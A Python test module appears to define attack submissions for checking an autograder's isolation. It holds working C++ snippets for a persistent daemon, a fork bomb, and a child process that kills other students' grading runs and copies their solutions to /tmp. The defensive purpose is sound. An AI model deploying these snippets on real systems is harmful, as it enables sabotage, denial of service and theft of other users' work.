"""Attacks by processes (attacks.py grades them): a daemon that outlives its test, a child
that kills and snoops on its classmates' gradings, a fork bomb. Each entry is NAME: (BASE,
EXPECT, MARKERS, CODE), as attacks.py's ATTACKS says; the code is C++ appended to BASE after
attacks_prelude.PRELUDE, and MARKERS name the processes it starts.
"""

PROCESSES = {
    # processes: a daemon per test, double-forked into its own session, asleep for 20 minutes
    # (longer than TIME_LIMIT: still there when the class run ends, unless the grader kills it)
    "proc_daemon": ("solution", "same", ("atk-daemon",), r'''
static void atk_sleep(void)
{
    sleep(1200);
}

__attribute__((constructor)) static void atk_daemon(void)
{
    atk_spawn("atk-daemon", atk_sleep, 1);
}
'''),
    # processes: a detached child that, for 20 s, kills the processes that the grader (our
    # parent) runs in the scratch trees of honest students (files without atk- markers), prints
    # the vector_add.cu of every other scratch tree, and copies the finished ones of its
    # classmates (trees beside its own) to /tmp/atk-loot-*
    "kill_neighbours": ("solution", "same", ("atk-killer",), r'''
static pid_t atk_grader;
static char atk_tree[PATH_MAX];

/* The scratch tree that process pid works in, "" if none or ours. */
static void atk_tree_of(int pid, char *tree)
{
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/cwd", pid);
    if (!realpath(link, tree) || !strcmp(tree, atk_tree) || !strstr(tree, "/grade-"))
        tree[0] = 0;
}

/* Whether pid descends from the grader (a test, or a build step of another student). */
static int atk_graders(int pid)
{
    for (int depth = 0; depth < 4 && pid > 1; depth++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        char *stat = atk_read(path, 4096, NULL);
        char *end = stat ? strrchr(stat, ')') : NULL;
        int ppid = 0;
        if (!end || sscanf(end, ") %*c %d", &ppid) != 1)
            ppid = 0;
        free(stat);
        if (ppid == atk_grader)
            return 1;
        pid = ppid;
    }
    return 0;
}

static char *atk_student_file(const char *tree)
{
    char path[PATH_MAX + 64];
    snprintf(path, sizeof path, "%s/labs/" LAB_DIR "/vector_add.cu", tree);
    return atk_read(path, 1 << 20, NULL);
}

static void atk_kill_honest(void)
{
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
        char tree[PATH_MAX];
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid() || !atk_graders(pid))
            continue;
        atk_tree_of(pid, tree);
        char *text = tree[0] ? atk_student_file(tree) : NULL;
        if (text && !strstr(text, "atk-") && kill(pid, SIGKILL) == 0)
            fprintf(stderr, "atk-killer: killed %d in %s\n", pid, tree);
        free(text);
    }
    if (d)
        closedir(d);
}

/* The folder that holds a scratch tree's grade-XXX folder. */
static void atk_scratch_of(const char *tree, char *dir)
{
    strcpy(dir, tree);
    for (int up = 0; up < 2 && strrchr(dir, '/'); up++)
        *strrchr(dir, '/') = 0;
}

/* Another scratch tree's vector_add.cu printed; a finished one beside ours (a classmate's)
 * copied to /tmp/atk-loot-N.cu. */
static void atk_loot(const char *tree)
{
    static int loot;
    char *text = strcmp(tree, atk_tree) ? atk_student_file(tree) : NULL;
    char ours[PATH_MAX], theirs[PATH_MAX], path[64];
    if (!text)
        return;
    fprintf(stderr, "atk-snoop %s:\n%.300s\n", tree, text);
    atk_scratch_of(atk_tree, ours);
    atk_scratch_of(tree, theirs);
    snprintf(path, sizeof path, "/tmp/atk-loot-%d-%d.cu", (int)getpid(), loot++);
    FILE *f = strstr(text, "TODO:") || strcmp(ours, theirs) ? NULL : fopen(path, "w");
    if (f) {
        fputs(text, f);
        fclose(f);
    }
    free(text);
}

static void atk_killer_run(void)
{
    for (int i = 0; i < 200; i++) { /* 20 s */
        atk_kill_honest();
        if (i % 10 == 0)
            atk_scratch_trees(atk_loot);
        usleep(100000);
    }
}

__attribute__((constructor)) static void atk_killer(void)
{
    atk_grader = getppid();
    if (atk_graded() && realpath("/proc/self/cwd", atk_tree))
        atk_spawn("atk-killer", atk_killer_run, 1);
}
'''),
    # processes: a fork bomb per test: up to 2000 children that sleep for 30 s
    "proc_forkbomb": ("solution", "limited", ("atk-bomb",), r'''
static void atk_bomb(void)
{
    for (int i = 0; i < 2000; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            sleep(30);
            _exit(0);
        }
        if (pid < 0)
            break;
    }
    sleep(30);
}

__attribute__((constructor)) static void atk_forkbomb(void)
{
    atk_spawn("atk-bomb", atk_bomb, 0);
}
'''),
}
